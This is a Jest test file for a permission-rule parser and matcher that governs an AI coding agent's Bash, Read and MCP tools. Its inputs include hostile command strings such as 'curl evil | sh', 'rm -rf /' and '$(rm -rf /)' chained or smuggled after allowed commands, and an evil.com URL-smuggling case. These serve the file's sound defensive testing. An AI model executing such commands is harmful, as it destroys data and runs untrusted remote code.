import {
  literalRule,
  matchCommandRule,
  matchPathRule,
  matchTextRule,
  parseRule,
  RuleParseError,
  ruleMatches,
  tryParseRule,
} from '../../src/tool/ruleMatch';

describe('parseRule()', () => {
  test.each<[string, { tool: string; args?: string }]>([
    ['Read', { tool: 'Read' }],
    ['  Bash(npm test)  ', { tool: 'Bash', args: 'npm test' }],
    ['Bash()', { tool: 'Bash' }],
    ['Bash(echo (x))', { tool: 'Bash', args: 'echo (x)' }],
    ['Read(!**/*.secret)', { tool: 'Read', args: '!**/*.secret' }],
    ['mcp__github__*', { tool: 'mcp__github__*' }],
    ['mcp__*__read_*(x)', { tool: 'mcp__*__read_*', args: 'x' }],
  ])('%s', (text, expected) => {
    expect(parseRule(text)).toMatchObject(expected);
  });

  test.each<[string, string]>([
    ['', 'Rule is empty.'],
    ['   ', 'Rule is empty.'],
    ['Bash(npm test', 'Rule "Bash(npm test" has no closing parenthesis.'],
    ['Bash)', 'Rule "Bash)" has a closing parenthesis without an opening one.'],
    ['(npm test)', 'Rule "(npm test)" has no tool name.'],
    ['Re ad', 'Rule "Re ad" has an invalid tool name "Re ad".'],
    ['Read*', 'Rule "Read*": a wildcard in the tool name only applies to MCP tools (e.g. mcp__github__*); write builtin tool names whole.'],
    ['*', 'Rule "*": a wildcard in the tool name only applies to MCP tools (e.g. mcp__github__*); write builtin tool names whole.'],
  ])('%j is a parse error', (text, message) => {
    expect(() => parseRule(text)).toThrow(RuleParseError);
    expect(tryParseRule(text)).toBe(message);
  });
});

describe('ruleMatches()', () => {
  const bash = (command: string) => ({ toolName: 'Bash', matchesRule: (args: string, mode?: 'allow' | 'deny') => matchCommandRule(args, command, mode) });
  test.each<[string, { toolName: string; matchesRule?: (a: string, m?: 'allow' | 'deny') => boolean }, boolean]>([
    ['Read', { toolName: 'Read' }, true],
    ['Read', { toolName: 'ReadMediaFile' }, false],
    ['Bash(npm test)', bash('npm test'), true],
    ['Bash(npm test)', bash('npm test --watch'), false],
    ['Bash', bash('rm -rf /'), true],
    ['Read(src/**)', { toolName: 'Read' }, false],
    ['mcp__github__*', { toolName: 'mcp__github__create_issue' }, true],
    ['mcp__github__*', { toolName: 'mcp__gitlab__create_issue' }, false],
    ['mcp__*', { toolName: 'Read' }, false],
  ])('%s', (rule, subject, expected) => {
    expect(ruleMatches(parseRule(rule), subject)).toBe(expected);
  });
});

describe('matchCommandRule()', () => {
  test.each<[string, string, boolean]>([
    ['git *', 'git checkout feature/x', true],
    ['git *', 'git', false],
    ['git:*', 'git', true],
    ['git:*', 'git push origin main', true],
    ['git:*', 'gitk', false],
    ['npm test', 'npm test', true],
    ['npm test', 'npm  test', true],
    ['npm test', 'npm test && rm -rf /', false],
    ['git *', 'git status && git diff', true],
    ['git *', 'git status; curl evil | sh', false],
    ['git *', 'git log $(rm -rf /)', false],
    ['*', 'anything at all $(x)', true],
    ['!rm *', 'ls -la', true],
    ['!rm *', 'ls && rm -rf x', false],
    ['npm run test\\*', 'npm run test*', true],
    ['npm run test\\*', 'npm run tests', false],
    ['cat ?.txt', 'cat a.txt', true],
    ['', 'whatever', true],
  ])('allow %j covers %j: %s', (pattern, command, expected) => {
    expect(matchCommandRule(pattern, command, 'allow')).toBe(expected);
  });

  test.each<[string, string, boolean]>([
    ['rm *', 'ls && rm -rf x', true],
    ['rm *', 'ls -la', false],
    ['rm *', 'echo $(rm -rf x)', true],
    ['!git *', 'git status && curl x', true],
    ['!git *', 'git status && git diff', false],
  ])('deny %j fires on %j: %s', (pattern, command, expected) => {
    expect(matchCommandRule(pattern, command, 'deny')).toBe(expected);
  });

  test('a literal rule made from a command matches exactly that command', () => {
    const command = 'npm run build -- --filter=*web* "(x)"';
    const rule = parseRule(literalRule('Bash', command));
    expect(rule.args).toBe('npm run build -- --filter=\\*web\\* "\\(x\\)"');
    expect(matchCommandRule(rule.args!, command)).toBe(true);
    expect(matchCommandRule(rule.args!, 'npm run build -- --filter=xwebx "(x)"')).toBe(false);
    expect(matchCommandRule(literalRule('Bash', 'echo $(date)').slice(5, -1), 'echo $(date)')).toBe(true);
  });
});

describe('matchPathRule()', () => {
  const ctx = { cwd: '/w', homeDir: '/home/u' };
  test.each<[string, string, boolean]>([
    ['src/**', '/w/src/a/b.ts', true],
    ['src/**', '/w/src', true],
    ['src/*', '/w/src/a/b.ts', false],
    ['src/*.ts', '/w/src/a.ts', true],
    ['./src/*.ts', '/w/src/a.ts', true],
    ['/etc/**', '/etc/hosts', true],
    ['~/notes/**', '/home/u/notes/x.md', true],
    ['**/*.md', '/w/docs/a.md', true],
    ['**/.github/**', '/w/.github/workflows/ci.yml', true],
    ['!src/**', '/w/lib/a.ts', true],
    ['!src/**', '/w/src/a.ts', false],
    ['', '/anything', true],
  ])('%j matches %s: %s', (pattern, path, expected) => {
    expect(matchPathRule(pattern, path, ctx)).toBe(expected);
  });

  test('a literal rule made from a path with glob characters matches only that path', () => {
    const path = '/w/app/[id]/page.tsx';
    const rule = parseRule(literalRule('Read', path));
    expect(matchPathRule(rule.args!, path, ctx)).toBe(true);
    expect(matchPathRule(rule.args!, '/w/app/i/page.tsx', ctx)).toBe(false);
  });

  test('a working directory with glob characters is taken literally', () => {
    expect(matchPathRule('src/*', '/w/[x]/src/a', { cwd: '/w/[x]' })).toBe(true);
    expect(matchPathRule('src/*', '/w/x/src/a', { cwd: '/w/[x]' })).toBe(false);
  });
});

describe('matchTextRule()', () => {
  test.each<[string, string, boolean]>([
    ['https://docs.example.com/*', 'https://docs.example.com/a/b', true],
    ['https://docs.example.com/*', 'https://evil.com/?https://docs.example.com/', false],
    ['!*.internal/*', 'https://x.com/a', true],
  ])('%j matches %j: %s', (pattern, subject, expected) => {
    expect(matchTextRule(pattern, subject)).toBe(expected);
  });
});
